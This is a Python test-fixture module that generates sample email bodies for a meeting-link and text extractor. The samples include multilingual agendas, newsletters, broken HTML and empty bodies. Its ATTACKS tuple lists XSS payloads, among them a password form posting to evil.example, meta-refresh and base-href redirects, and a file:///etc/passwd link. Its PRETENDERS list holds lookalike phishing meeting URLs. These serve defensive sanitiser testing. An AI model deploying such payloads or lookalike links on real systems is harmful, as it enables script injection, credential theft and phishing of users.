# ruff: noqa: E501, RUF001 - bodies are written as programs and people write them
"""Bodies without a meeting service: agendas in many scripts, plain text, newsletters, attacks, broken markup."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape

from body_frames import FRAME_JUNK, FRAMES, anchor, safelink
from body_sample import Sample

AGENDAS: dict[str, tuple[str, str, str]] = {
    "english": ("Agenda for Monday", "Prices & margins", "Ana’s “open” questions – 5 < 7"),
    "german": ("Tagesordnung für Montag", "Überschüsse & Maße", "Größe ≤ 10 m²"),
    "french": ("Ordre du jour", "Été : coûts à vérifier", "Où êtes-vous ?"),
    "polish": ("Porządek obrad", "Źródła i zyski", "Żółta łódź"),
    "greek": ("Ημερήσια διάταξη", "Τιμές και περιθώρια", "Ερωτήσεις"),
    "russian": ("Повестка дня", "Цены и прибыль", "Вопросы"),
    "hebrew": ("סדר יום", "מחירים ורווחים", "שאלות פתוחות"),
    "arabic": ("جدول الأعمال", "الأسعار والأرباح", "أسئلة مفتوحة"),
    "hindi": ("कार्यसूची", "मूल्य और लाभ", "प्रश्न"),
    "japanese": ("月曜日の議題", "価格と利益", "質問"),
    "chinese": ("星期一議程", "價格與利潤", "問題"),
    "emoji": ("🎉 Party 🎂", "👩‍👩‍👧‍👦 families", "🇺🇳 👍🏽 done ✅"),
}
DIVIDED = "<table border=1><tr><td>Revenue</td><td>1,200</td></tr><tr><td>Costs</td><td>900</td></tr></table>"
BULLETS = '<p class="MsoListParagraph"><![if !supportLists]><span style="font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt">&nbsp;&nbsp; </span></span></span><![endif]>first point<o:p></o:p></p><ul type="disc"><li class="MsoListParagraph">second point<ul><li>nested point</li></ul></li></ul>'


def texts() -> Iterator[Sample]:
    """One body each."""
    yield from _agendas()
    yield from _plain()
    yield from _newsletters()
    yield from _attacks()
    yield from _broken()
    yield from _nothing()


def _agendas() -> Iterator[Sample]:
    for n, (language, lines) in enumerate(AGENDAS.items()):
        for m, (frame, write) in enumerate(FRAMES.items()):
            if (n + m) % 2:
                continue
            escaped = [
                f"<span dir=rtl>{escape(line)}</span>" if language in {"hebrew", "arabic"} else escape(line)
                for line in lines
            ]
            words = (*lines, "Revenue | 1,200", "Costs | 900", "first point", "nested point")
            yield Sample(
                name=f"agenda-{language}-{frame}",
                content=write(escaped, DIVIDED + BULLETS),
                words=words,
                junk=FRAME_JUNK,
            )


def _plain() -> Iterator[Sample]:
    for language, lines in AGENDAS.items():
        yield Sample(name=f"plain-{language}", content="\r\n\r\n".join(lines), content_type="text", words=lines)
    code = "if a < b && c > d:\n    print('<b>not bold</b>')"
    yield Sample(name="plain-code", content=code, content_type="text", words=("if a < b && c > d:", "<b>not bold</b>"))
    isolates = "\u2067שלום\u2069 and \u202eevil\u202c order\u200f"
    yield Sample(name="plain-directions", content=isolates, content_type="text", words=("שלום", "evil"))
    yield Sample(name="plain-long-line", content="word " * 4000, content_type="text", words=("word word",))
    yield Sample(name="plain-no-blank", content="x" * 20_000, content_type="text", words=("xxx",))
    yield Sample(name="plain-ampersands", content="&" * 9000, content_type="text", words=("&&&",))
    yield Sample(
        name="plain-zoom",
        content="Call https://zoom.us/j/5551112222.\nOr (https://zoom.us/j/1)",
        content_type="text",
        words=("Call", "Or"),
        link="https://zoom.us/j/5551112222",
    )
    yield Sample(
        name="location-link",
        content="no link",
        words=("no link",),
        location="Zoom: https://zoom.us/j/5551112222",
        link="https://zoom.us/j/5551112222",
    )


def _newsletters() -> Iterator[Sample]:
    style = "<style>" + ".c{color:#fff;padding:0 24px}@media only screen{.x{width:100%!important}}" * 400 + "</style>"
    cell = '<table role="presentation" width="100%" cellpadding="0"><tr><td style="padding:24px"><!--[if mso]><v:rect><v:fill/><![endif]--><img src="https://img.example/p.png" alt="" width="1" height="1">'
    for n, size in enumerate((20, 100, 200, 400)):
        story = f"{cell}<h2>Story</h2><p>All the news that fits in {size} parts, with {anchor(safelink('https://news.example/a?b=1&c=2'), 'more')}.</p></td></tr></table>"
        body = story * (size * 1024 // len(story))
        head = "<p>Number one headline</p>"
        yield Sample(
            name=f"newsletter-{size}k",
            content=f"<html><head>{style}</head><body>{head}{body}</body></html>",
            words=("Number one headline", "Story", "All the news"),
            junk=("padding", "mso", "@media", "v:rect"),
        )
        late = f"{head}{story * (n + 1)}<p>{anchor('https://meet.google.com/xyz-abcd-efg', 'Watch live')}</p>"
        yield Sample(
            name=f"newsletter-late-link-{n}",
            content=style + late,
            words=("Number one headline", "Story"),
            link="https://meet.google.com/xyz-abcd-efg",
        )
    late = f"{'<p>filling paragraph</p>' * 9000}<p>{anchor('https://meet.google.com/xyz-abcd-efg', 'Watch live')}</p>"
    yield Sample(
        name="newsletter-link-at-the-end",
        content=late,
        words=("filling paragraph",),
        link="https://meet.google.com/xyz-abcd-efg",
    )
    picture = f'<img src="data:image/png;base64,{"iVBORw0KGgo" * 20_000}">'
    yield Sample(
        name="newsletter-pictures",
        content=f"<p>before</p>{picture}{picture}<p>after</p>",
        words=("before", "after"),
        junk=("iVBOR",),
    )


ATTACKS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", '<img """><script>alert(1)</script>">', "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<a href=javascript:alert(1)>go</a>", "<a href=' javascript:alert(1)'>go</a>", "<a href='java\tscript:alert(1)'>go</a>", "<a href='&#106;avascript:alert(1)'>go</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>go</a>", "<a href='vbscript:msgbox(1)'>go</a>", "<a href='file:///etc/passwd'>go</a>",
    '<a href="https://x.example/" onclick="alert(1)" style="position:fixed">go</a>', "<a href='https://x.example/\"><script>alert(1)</script>'>go</a>",
    "<form action=https://evil.example><input name=password><button>go</button></form>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import url(https://evil.example/x.css);</style>", "<div style=\"background:url(javascript:alert(1))\">go</div>",
    "<base href=https://evil.example/>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<template><script>alert(1)</script></template>", "<details open ontoggle=alert(1)>go</details>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php alert(1) ?>", "<video><source onerror=alert(1)></video>", "<textarea><script>alert(1)</script></textarea>",
)  # fmt: skip
PRETENDERS = (
    "http://zoom.us/j/123456789", "https://zoom.us.evil.example/j/123456789", "https://evilzoom.us/j/1", "https://zoom.us@evil.example/j/1", "https://evil.example/zoom.us/j/1",
    "https://evil.example/?u=https://evil.example/j", "https://teams.microsoft.com:8443/l/meetup-join/1", "https://support.zoom.us/hc/en-us/articles/1", "https://meet.google.com/about",
    "https://us02web.zoom.us/u/kdAbcDef12", "https://contoso.webex.com/contoso/globalcallin.php?x=1", "https://teams.microsoft.com/meetingOptions/?x=1", safelink("javascript:alert(1)//zoom.us/j/1"),
    safelink("http://zoom.us/j/1"),
)  # fmt: skip


def _attacks() -> Iterator[Sample]:
    for n, attack in enumerate(ATTACKS):
        yield Sample(name=f"attack-{n}", content=f"<p>before</p>{attack}<p>after</p>", words=("before",))
    for n, address in enumerate(PRETENDERS):
        yield Sample(
            name=f"pretender-{n}", content=f"<p>before</p>{anchor(address, 'Join Zoom Meeting')}", words=("before",)
        )
    endless = "<p>before</p>" + "https://urldefense.com/v3/__https://zoom.us/j/" * 10_000
    yield Sample(name="pretender-endless", content=endless, words=("before",))
    hidden = "<!-- https://zoom.us/j/666 --><style>a{background:url(https://zoom.us/j/667)}</style><p>before</p>"
    yield Sample(name="pretender-hidden", content=hidden, words=("before",))


def _broken() -> Iterator[Sample]:
    broken = {
        "unclosed": "<b><i><u>before <ul><li>one<li>two",
        "misnested": "<b><p>before</b></p></i><i>two</b>",
        "half-tag": "before <a href='https://x.example",
        "half-entity": "before &am &#; &#x; &#99999999; &nosuch; &lt",
        "table-in-pieces": "</td></tr>before<table><td>a<td>b<tr>c</table></table>",
        "deep": "<div>" * 5000 + "before" + "</div>" * 5000,
        "deep-lists": "<ul><li>" * 300 + "before",
        "comment": "before <!-- never closed <p>gone</p>",
        "conditional": "<![if !mso]>before<![endif]><!--[if mso]>only for Word<![endif]-->",
        "doctype": '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN"><p>before</p><?xml version="1.0"?>',
        "nul": "be\x00fore\x0b \x1b[31mred",
        "surrogate": "before \ud83d alone",
        "two-documents": "<html><body>before</body></html><html><body>again</body></html>",
        "encoded": escape("<p>before</p>"),
        "encoded-twice": escape(escape("<p>before</p>")),
        "attributes": "<p " + "a='1' " * 3000 + ">before</p>",
        "meet-lines": "before<br>-::~:~::~:~:~:~:~:~:~::~:~::-<br>hidden<br>-::~:~::~:~:~:~:~:~:~::~:~::-",
        "rules": "before" + "_" * 500 + "<hr>" * 50,
        "blanks": "before" + "<p>&nbsp;</p>" * 2000 + "after",
        "long-link": f"<a href='https://x.example/{'y' * 9000}'>before</a>",
    }
    for name, content in broken.items():
        yield Sample(name=f"broken-{name}", content=content, words=("before",))


def _nothing() -> Iterator[Sample]:
    for n, content in enumerate(
        (
            "",
            " \r\n\t",
            "<html></html>",
            "<html><head><style>p{}</style></head><body>&nbsp;</body></html>",
            "<p class=MsoNormal><o:p>&nbsp;</o:p></p>",
            "<!-- -->",
            "\u200b\ufeff",
        )
    ):
        yield Sample(name=f"nothing-{n}", content=content)
